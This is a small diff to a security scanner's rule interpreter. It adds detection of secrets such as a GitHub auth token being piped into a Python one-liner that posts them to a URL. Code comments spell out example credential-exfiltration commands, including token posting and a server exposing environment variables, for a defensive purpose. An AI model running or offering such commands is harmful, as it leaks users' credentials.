@@ -316,6 +316,8 @@ def rule_interpreter_body(c: Ctx) -> Optional[tuple]:
         best = worst(best, (MEDIUM, f"{c.prog} code sends the environment or keys to the network ({shown})"))
     if best is None or best[0] < HIGH:  # `requests.post(URL, data=check_output(["gh", "auth", "token"]))`
         best = worst(best, code_secret_sends.judge(c.prog, code, shown))
+    if (best is None or best[0] < HIGH) and c.chain:  # `gh auth token | python3 -c '…post(URL, sys.stdin.read())'`
+        best = worst(best, code_secret_sends.piped_in(c, code, shown))
     if best is None or best[0] < HIGH:  # `http.createServer((q, s) => s.end(JSON.stringify(process.env)))`
         best = worst(best, code_servers.judge(c.prog, code, shown, secret_path))
     if _CODE_INSTALL.search(code):
